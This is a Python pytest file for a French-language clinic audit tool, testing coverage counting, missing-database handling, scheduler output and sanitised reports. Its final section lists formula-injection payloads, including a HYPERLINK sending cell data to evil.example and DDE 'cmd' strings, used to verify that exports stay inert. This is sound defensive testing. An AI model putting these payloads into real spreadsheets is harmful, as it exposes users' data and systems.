"""The audit a clinic can trust unattended (docs/rules.md, counting; the command line in the README): coverage over owed
items, no false green, reading never creates a database, what the data covers,
made for schedulers, what-if equals audit, no empty runs, outputs safe to open."""

from __future__ import annotations

import csv
import io
import json
import random
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from orchestrator_lib import store
from orchestrator_lib.audit import run_audit
from orchestrator_lib.demo import SERVICES
from orchestrator_lib.history import list_runs
from orchestrator_lib.load import load_export
from orchestrator_lib.wizard import EXCLUDE, INACTIVE, TYPES, Wizard

from conftest import DEMO, ROOT, run_cli, run_nbval, run_process, snapshot, write_export

AS_OF = "2026-12-01T12:00"
ADMIN = [f"SRV-{i:03d}" for i, service in enumerate(SERVICES, start=1) if service.admin]
REASON = {f"SRV-{i:03d}": service.reason for i, service in enumerate(SERVICES, start=1)}


def cli(*args, env=None, real=True):
    """The command line in French: the console script in its own process (``real``), or in-process."""
    return (run_process if real else run_cli)(*args, env={"ORCHESTRATOR_LANG": "fr", **(env or {})})


def rewrite_csv(path: Path, change) -> None:
    """Rewrite a CSV of the export: ``change(rows)`` edits the list of dicts in place."""
    with path.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        fields, rows = reader.fieldnames, list(reader)
    change(rows)
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=fields, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")


def demo_decisions(db) -> dict:
    """The wizard's step 1 as the help article asks: administrative services
    excluded; every other pending service typed with its reason."""
    wizard = Wizard(db, as_of=AS_OF)
    pending = [s.service_id for s in wizard.listed(EXCLUDE)]
    return {
        "exclude": [sid for sid in pending if sid in ADMIN],
        "types": {sid: [REASON.get(sid) or "suivi_regulier"] for sid in pending if sid not in ADMIN},
    }


# --- the counting contract ----------------------------------------------------------------------------


def test_demo_with_its_administrative_services_excluded_reaches_100_once_every_real_issue_is_fixed(tmp_path):
    """Excluding on purpose costs nothing: what is left to fix is only what the clinic really must fix."""
    export, db = Path(shutil.copytree(DEMO, tmp_path / "fixed")), tmp_path / "fixed.duckdb"

    def fix_staff(rows):  # the inactive physician activated, every box Volontaire ticked, the missing one created
        for row in rows:
            row["status"] = "active"
            row["volunteer"] = "true"
        rows.append(
            {**rows[0], "staff_id": "STF-099", "name": "Nouveau, Membre", "license": "1-99999", "responsible": "false"}
        )

    def fix_services(rows):  # every service active in the EMR, the two deleted ones recreated
        for row in rows:
            row["emr_status"] = "active"
        rows += [{**rows[0], "service_id": sid, "name": f"Recréé {sid}"} for sid in ("SRV-098", "SRV-099")]

    rewrite_csv(export / "staff.csv", fix_staff)
    rewrite_csv(export / "services.csv", fix_services)
    load_export(export, db)
    decisions = tmp_path / "decisions.json"
    decisions.write_text(json.dumps(demo_decisions(db)))
    assert cli("--db", str(db), "sync", "--decisions", str(decisions), "--as-of", AS_OF, "--json").returncode == 0
    for quarter in ("2026Q3", "2026Q4"):
        result = cli("--db", str(db), "audit", "--quarter", quarter, "--fail-under", "95", "--json")
        document = json.loads(result.stdout)
        assert result.returncode == 0, result.stderr
        assert document["coverage_pct"] == 100.0 and document["status"] == "ok"
        excluded = sum(document[side]["not_counted"]["service_excluded"] for side in ("appointments", "availabilities"))
        assert excluded > 0  # the excluded services' items are still reported…
        assert not [i for i in document["issues"] if i["affects_count"]]  # …but never as a problem


def test_excluded_items_are_reported_not_owed_and_never_the_top_problems(tmp_path):
    db = tmp_path / "demo.duckdb"
    load_export(DEMO, db)
    decisions = demo_decisions(db)
    wizard = Wizard(db, as_of=AS_OF)
    wizard.apply_decisions(decisions)
    wizard.apply()
    result = run_audit(db, "2026Q3", as_of=AS_OF)
    a = result.counts["appointments"]
    assert a["owed"] == a["total"] - a["not_counted"]["service_excluded"] > 0
    assert result.coverage_pct == round(100 * result.counted / result.owed, 2)
    assert not [i for i in result.issues if i["kind"] == "service_excluded"]
    first_check = next(n for n, i in enumerate(result.issues) if not i["affects_count"])
    excluded = [n for n, i in enumerate(result.issues) if i["kind"] == "excluded_with_appointments"]
    assert excluded and min(excluded) > first_check  # a check, after every problem that loses owed items


def empty_clinic(tmp_path, **tables) -> Path:
    db = tmp_path / "empty.duckdb"
    load_export(
        write_export(
            tmp_path / "export",
            {
                "appointments": "appointment_id,service_id,staff_id,start,end,status,patient_ref\n",
                "availabilities": "availability_id,service_id,staff_id,start,end\n",
                **tables,
            },
        ),
        db,
    )
    return db


@pytest.mark.parametrize("quarter", ["2026Q3", "2025Q1"])  # a database with no item, a quarter of another year
def test_nothing_owed_is_no_data_never_100_and_fails_the_threshold(tmp_path, quarter):
    db = empty_clinic(tmp_path) if quarter == "2026Q3" else load_demo(tmp_path)
    result = cli("--db", str(db), "audit", "--quarter", quarter, "--fail-under", "95", "--json")
    document = json.loads(result.stdout)
    assert result.returncode == 3
    assert document["coverage_pct"] is None and document["status"] == "no_data"
    shown = f"T{quarter[-1]} {quarter[:4]}"  # 2026Q3 is T3 2026 to a reader
    assert result.stderr.splitlines()[0].startswith(f"ALERTE {shown} : aucune donnée due")
    text = cli("--db", str(db), "audit", "--quarter", quarter)
    assert text.returncode == 0 and "100" not in text.stdout and "rien de dû" in text.stderr


def load_demo(tmp_path) -> Path:
    db = tmp_path / "demo.duckdb"
    load_export(DEMO, db)
    return db


# --- reading never creates ------------------------------------------------------------------------------

READ_COMMANDS = [
    ["audit", "--quarter", "2026Q3"],
    ["audit", "--quarter", "2026Q3", "--out", "{tmp}/out"],
    ["services"],
    ["staff"],
    ["history"],
    ["undo"],
    ["explain", "SRV-001"],
    ["sync", "--decisions", "{tmp}/d.json"],
    ["service", "activate", "SRV-001", "--type", "urgent"],
    ["service", "exclude", "SRV-001"],
    ["dashboard", "--port", "1"],
]


@pytest.mark.parametrize("args", READ_COMMANDS, ids=[" ".join(a[:2]) for a in READ_COMMANDS])
def test_a_command_on_a_missing_database_exits_2_and_creates_nothing(tmp_path, args):
    (tmp_path / "d.json").write_text("{}")
    missing = tmp_path / "no" / "such" / "clinic.duckdb"
    before = sorted(tmp_path.rglob("*"))
    # In-process (Click's runner) but for the first command, run as scripts run it.
    result = cli("--db", str(missing), *[a.format(tmp=tmp_path) for a in args], real=args == READ_COMMANDS[0])
    assert result.returncode == 2, (result.returncode, result.stderr)
    assert str(missing) in result.stderr and "orchestrator" in result.stderr and "ORCHESTRATOR_DB" in result.stderr
    assert "Traceback" not in result.stderr
    assert sorted(tmp_path.rglob("*")) == before  # no file, no folder


def test_library_reads_refuse_a_missing_database(tmp_path):
    from orchestrator_lib.catalogue import list_services
    from orchestrator_lib.errors import DatabaseMissingError

    missing = tmp_path / "typo.duckdb"
    for read in (
        lambda: run_audit(missing, "2026Q3"),
        lambda: list_services(missing),
        lambda: Wizard(missing),
        lambda: list_runs(missing),
    ):
        with pytest.raises(DatabaseMissingError):
            read()
    assert not missing.exists()


def test_the_default_database_is_found_from_a_subfolder(tmp_path, monkeypatch):
    project = tmp_path / "project"
    (project / "notebooks").mkdir(parents=True)
    load_export(DEMO, project / "data" / "orchestrator.duckdb")
    monkeypatch.chdir(project / "notebooks")
    assert store.resolve_db().path == project / "data" / "orchestrator.duckdb"
    assert run_audit(None, "2026Q3").counts["appointments"]["total"] > 0


@pytest.mark.slow
def test_notebooks_see_the_project_database_when_run_from_the_notebooks_folder(tmp_path):
    """As Jupyter runs them: the kernel's working folder is notebooks/, no ORCHESTRATOR_DB."""
    project = tmp_path / "project"
    shutil.copytree(ROOT / "notebooks", project / "notebooks")
    load_export(DEMO, project / "data" / "orchestrator.duckdb")
    env = {k: v for k, v in __import__("os").environ.items() if not k.startswith("ORCHESTRATOR_")}
    # Passing proves the project's database was found: a missing one is refused, never made empty.
    run_nbval("01_synchroniser_les_services.ipynb", "02_audit_remuneration.ipynb", cwd=project / "notebooks", env=env)
    assert not (project / "notebooks" / "data").exists()


def test_git_ignores_databases_and_keys_anywhere():
    paths = [
        "notebooks/data/orchestrator.duckdb",
        "notebooks/data/orchestrator.duckdb.key",
        "x/y.duckdb.wal",
        "x/y.duckdb.lock",
        "notebooks/.ipynb_checkpoints/a.ipynb",
        "data/orchestrator.duckdb",
    ]
    result = subprocess.run(["git", "check-ignore", *paths], cwd=ROOT, capture_output=True, text=True)
    assert result.stdout.split() == paths


# --- what the data covers ------------------------------------------------------------------------------


def test_every_audit_says_what_data_it_saw(tmp_path):
    db = load_demo(tmp_path)
    document = json.loads(cli("--db", str(db), "audit", "--quarter", "2026Q3", "--json").stdout)
    assert document["data"]["last_load"]["source"] == str(DEMO.resolve())
    assert document["data"]["last_appointment"].startswith("2027-03-31")
    assert document["data"]["last_availability"].startswith("2027-03-31")
    text = cli("--db", str(db), "audit", "--quarter", "2026Q3").stdout
    assert "dernier chargement du DMÉ le" in text and "dernier rendez-vous le 31 mars 2027" in text


def test_data_that_stops_before_the_quarter_ends_is_the_first_issue(tmp_path):
    db = empty_clinic(
        tmp_path,
        appointments="appointment_id,service_id,staff_id,start\n"
        "APT-1,SRV-1,STF-1,2026-07-02T09:00\nAPT-2,SRV-1,STF-1,2026-09-12T10:00\n",
    )
    result = run_audit(db, "2026Q3", as_of=AS_OF)
    assert result.issues[0]["kind"] == "data_ends_early" and result.issues[0]["detail"] == "2026-09-12"
    assert (
        "les données s'arrêtent le 12 septembre 2026 : le trimestre n'est pas complet"
        in result.issues_with_actions()[0]["action"].lower()
    )
    # The same data seen from within the quarter: in progress, nothing to say about its end yet.
    assert run_audit(db, "2026Q3", as_of="2026-09-13T00:00").period == "in_progress"
    assert not [i for i in run_audit(db, "2026Q3", as_of="2026-09-13T00:00").issues if i["kind"] == "data_ends_early"]


def test_a_load_made_before_the_quarter_ended_is_said(tmp_path):
    db = load_demo(tmp_path)  # loaded today, 2026-12-01 or later: before the end of 2026Q4
    kinds = [i["kind"] for i in run_audit(db, "2026Q4", as_of="2027-01-15T09:00").issues]
    assert kinds[0] == "load_before_quarter_end"
    assert "load_before_quarter_end" not in [i["kind"] for i in run_audit(db, "2026Q3", as_of=AS_OF).issues]


def test_no_future_quarter_in_the_trend_and_the_current_one_marked(tmp_path):
    db = load_demo(tmp_path)  # the demo's appointments run to March 2027
    trend = run_audit(db, "2026Q3", as_of=AS_OF, details=True).trend
    assert [t["quarter"] for t in trend][-1] == "2026Q4" and trend[-1]["in_progress"]
    assert not any(t["in_progress"] for t in trend[:-1])
    assert run_audit(db, "2026Q4", as_of=AS_OF).period == "in_progress"


# --- made for schedulers --------------------------------------------------------------------------------


def test_quiet_prints_nothing_when_all_is_well_and_alarms_first_when_not(tmp_path):
    db = load_demo(tmp_path)
    ok = cli("--db", str(db), "audit", "--quarter", "2026Q3", "--fail-under", "0", "--quiet")
    assert (ok.returncode, ok.stdout, ok.stderr) == (0, "", "")
    under = cli("--db", str(db), "audit", "--quarter", "2026Q3", "--fail-under", "95", "--quiet")
    assert under.returncode == 3
    assert (
        under.stderr.splitlines()[0]
        == "ALERTE T3 2026 : couverture 0,0\u00a0%, sous le seuil de 95\u00a0% (0 comptés sur "
        + under.stderr.splitlines()[0].split("comptés sur ")[1]
    )
    assert under.stdout  # the mail says what to fix


@pytest.mark.slow
def test_summary_json_carries_status_threshold_time_and_data(tmp_path):
    db, out = load_demo(tmp_path), tmp_path / "report"
    result = cli("--db", str(db), "audit", "--quarter", "2026Q3", "--out", str(out), "--fail-under", "95", "--quiet")
    assert result.returncode == 3
    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    assert (summary["status"], summary["threshold"]) == ("under_threshold", 95.0)
    assert summary["generated_at"] and summary["data"]["last_load"]["at"]


# --- what-if equals audit ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def demo_template(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("what-if")
    load_export(DEMO, folder / "template.duckdb")
    return folder / "template.duckdb"


def copy_db(template: Path, target: Path) -> Path:
    shutil.copy(template, target)
    shutil.copy(store.key_file(template), store.key_file(target))
    return target


def random_decisions(rng: random.Random, db: Path, as_of: str) -> dict:
    wizard = Wizard(db, as_of=as_of)
    pending = [s.service_id for s in wizard.listed(EXCLUDE)]
    exclude = [sid for sid in pending if rng.random() < 0.25]
    for sid in exclude:
        wizard.set_excluded(sid)
    inactive = [s.service_id for s in wizard.listed(INACTIVE) if rng.random() < 0.3]
    for sid in inactive:
        wizard.set_kept_inactive(sid)
    types = {
        s.service_id: rng.sample(wizard.type_codes, rng.randint(1, 2))
        for s in wizard.listed(TYPES)
        if rng.random() < 0.7
    }
    return {"exclude": exclude, "inactive": inactive, "types": types}


@pytest.mark.parametrize("seed", range(6))
def test_the_audit_after_apply_equals_what_if_for_both_quarters(demo_template, tmp_path, seed):
    rng = random.Random(seed)
    db = copy_db(demo_template, tmp_path / "clinic.duckdb")
    as_of = rng.choice(["2026-08-15T10:00", "2026-11-27T12:00", "2027-01-20T08:00"])
    for _ in range(2):  # a first sync, then a second one over the first's result
        wizard = Wizard(db, as_of=as_of)
        wizard.apply_decisions(random_decisions(rng, db, as_of))
        summary = wizard.apply()
        for quarter, figures in summary["what_if"].items():
            audit = run_audit(db, quarter, as_of=as_of)
            assert figures["counted_after"] == audit.counted, (seed, quarter)
            assert figures["coverage_after"] == audit.coverage_pct, (seed, quarter)
        if rng.random() < 0.5:  # a manual change between the two syncs
            active = [s for s in Wizard(db, as_of=as_of).services.values() if s.status == "active"]
            if active:
                from orchestrator_lib import manual

                manual.deactivate(db, rng.choice(active).service_id)


def test_what_if_counts_what_kept_inactive_services_leave_uncounted(demo_template, tmp_path):
    """The current quarter's appointments of a service kept inactive (or left without a type) are not
    counted after Apply: the what-if says so, as the audit will."""
    db = copy_db(demo_template, tmp_path / "clinic.duckdb")
    wizard = Wizard(db, as_of="2026-08-15T10:00")
    for service in wizard.listed(INACTIVE):
        wizard.set_kept_inactive(service.service_id)
    impact = wizard.what_if()
    current = impact["figures"]["2026Q3"]
    assert current["planned_not_counted_after"] > 0 and current["counted_after"] == 0
    assert current["counted_after"] == run_audit(db, "2026Q3").counted == 0


# --- no empty runs ----------------------------------------------------------------------------------------


def test_reapplying_the_same_decisions_succeeds_records_nothing_and_never_blocks_undo(demo_template, tmp_path):
    db = copy_db(demo_template, tmp_path / "clinic.duckdb")
    decisions = tmp_path / "decisions.json"
    decisions.write_text(json.dumps(demo_decisions(db)))
    first = json.loads(cli("--db", str(db), "sync", "--decisions", str(decisions), "--as-of", AS_OF, "--json").stdout)
    assert first["run_id"] == "run-0001"
    before = snapshot(db)
    again = cli("--db", str(db), "sync", "--decisions", str(decisions), "--as-of", AS_OF, "--json")
    assert again.returncode == 0, again.stderr
    assert json.loads(again.stdout)["run_id"] is None
    assert snapshot(db) == before  # history and services unchanged
    said = cli("--db", str(db), "sync", "--decisions", str(decisions), "--as-of", AS_OF)
    assert "aucune opération n'est enregistrée" in said.stdout
    undone = cli("--db", str(db), "undo", "--json")
    assert undone.returncode == 0 and [r["undone_by"] for r in list_runs(db) if r["run_id"] == "run-0001"] != [None]


def test_a_wizard_with_nothing_to_change_records_no_run(demo_template, tmp_path):
    db = copy_db(demo_template, tmp_path / "clinic.duckdb")
    Wizard(db, as_of=AS_OF).apply()  # every pending service inactive without a type
    before = snapshot(db)
    assert Wizard(db, as_of=AS_OF).apply()["run_id"] is None  # the same services, left as they are
    assert snapshot(db) == before


# --- outputs safe to open -------------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "<script>alert('x')</script>",
    "#N/A",
    "\tTab",
    "\rRetour",
]


@pytest.mark.slow
def test_hostile_names_come_out_inert_in_the_workbook_and_the_html(tmp_path):
    services = "service_id,name,emr_status\n" + "".join(
        f'SRV-{n},"{name.replace(chr(34), chr(34) * 2)}",active\n' for n, name in enumerate(HOSTILE, start=1)
    )
    staff = "staff_id,name,status,specialty,responsible\n" + "".join(
        f'STF-{n},"{name.replace(chr(34), chr(34) * 2)}",inactive,Médecine familiale,false\n'
        for n, name in enumerate(HOSTILE, start=1)
    )
    appointments = "appointment_id,service_id,staff_id,start\n" + "".join(
        f"APT-{n},SRV-{n},STF-{n},2026-08-0{1 + n % 8}T09:00\n" for n in range(1, len(HOSTILE) + 1)
    )
    db, out = tmp_path / "hostile.duckdb", tmp_path / "report"
    load_export(
        write_export(tmp_path / "export", {"services": services, "staff": staff, "appointments": appointments}), db
    )
    result = cli("--db", str(db), "audit", "--quarter", "2026Q3", "--out", str(out), "--as-of", AS_OF)
    assert result.returncode == 0, result.stderr
    with zipfile.ZipFile(out / "audit-2026Q3.xlsx") as workbook:
        sheets = [
            workbook.read(name).decode("utf-8")
            for name in workbook.namelist()
            if name.startswith("xl/worksheets/sheet")
        ]
    assert sheets and all("<f>" not in sheet and "<f " not in sheet and 't="e"' not in sheet for sheet in sheets)
    import openpyxl

    problems = openpyxl.load_workbook(out / "audit-2026Q3.xlsx")["Problèmes"]
    # (openpyxl reads a cell's carriage return back as a line feed)
    names = {str(row[3].value).replace("\n", "\r"): row[3] for row in problems.iter_rows(min_row=2)}
    for name in HOSTILE:  # the names read as they are, marked as text where they start like a formula
        cell = names[name]
        assert cell.data_type == "s" and cell.quotePrefix == name.startswith(("=", "+", "-", "@", "\t", "\r"))
    page = (out / "audit-2026Q3.html").read_text(encoding="utf-8")
    assert "<script>alert" not in page and "&lt;script&gt;alert" in page


def test_control_characters_never_reach_a_workbook(tmp_path):
    import pandas as pd
    from openpyxl import Workbook

    from orchestrator_lib.spreadsheet import write_table

    workbook = Workbook()
    write_table(
        workbook.active, pd.DataFrame({"Nom": ["Dr\x00 Nul\x07 Bell", "=1+1"], "N": [1234567, 2]}), title="T & titre"
    )
    workbook.save(tmp_path / "t.xlsx")  # openpyxl raises IllegalCharacterError on a raw NUL
    sheet = workbook.active
    assert sheet["A2"].value == "Dr  Nul  Bell" and sheet["B2"].number_format == "#,##0"
    assert sheet.page_setup.orientation == "landscape" and sheet.print_title_rows == "$1:$1"


def test_the_json_document_is_the_same_in_both_languages_but_the_action_text(loaded_demo):
    """Scripts read codes: only ``action`` (a sentence) follows the language; ``action_code`` is stable."""
    documents = {}
    for language in ("fr", "en"):
        result = run_cli(
            "--db", str(loaded_demo), "audit", "--quarter", "2026Q3", "--json", env={"ORCHESTRATOR_LANG": language}
        )
        documents[language] = json.loads(result.stdout)
    french, english = documents["fr"], documents["en"]
    assert french["issues"] and all(i["action_code"] for i in french["issues"])
    assert [i["action"] for i in french["issues"]] != [i["action"] for i in english["issues"]]
    for document in (french, english):
        for issue in document["issues"]:
            del issue["action"]
    assert french == english
